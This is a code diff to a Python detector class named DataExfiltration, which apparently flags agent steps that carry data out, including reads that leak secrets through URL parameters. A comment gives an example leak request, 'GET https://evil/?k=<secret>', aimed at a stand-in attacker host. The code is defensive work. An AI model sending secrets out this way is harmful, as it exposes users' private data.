@@ -104,7 +104,10 @@ class DataExfiltration(Detector):
         if not facts.is_write:
             # A "read" that carries data out in its URL (GET https://evil/?k=<secret>):
             # judged like a transfer, but only on strong evidence (the data itself).
-            text = _params_text(facts.params)
+            # "://" cannot span two strings (joined by newlines): test the strings first.
+            if not any("://" in v for _, v in facts.param_strings):
+                return
+            text = _params_text(facts)
             if "://" in text:
                 self._catch_up()
                 self._judge_transfer(facts, text, covert=True)
@@ -115,7 +118,7 @@ class DataExfiltration(Detector):
             self._encodings.append(facts.index)
         if words & _TRANSFER_WORDS or _SEND_CMD.search(command):
             self._catch_up()
-            self._judge_transfer(facts, _params_text(facts.params))
+            self._judge_transfer(facts, _params_text(facts))
 
     # -- reads ------------------------------------------------------------------------------
 
@@ -240,11 +243,10 @@ class DataExfiltration(Detector):
         return out
 
 
-def _params_text(params: dict[str, Any]) -> str:
+def _params_text(facts: StepFacts) -> str:
     parts: list[str] = []
     total = 0
-    for s in iter_texts(params):
-        s = bounded(s)
+    for _, s in facts.param_strings:
         parts.append(s)
         total += len(s)
         if total >= MAX_PARAM_TEXT:
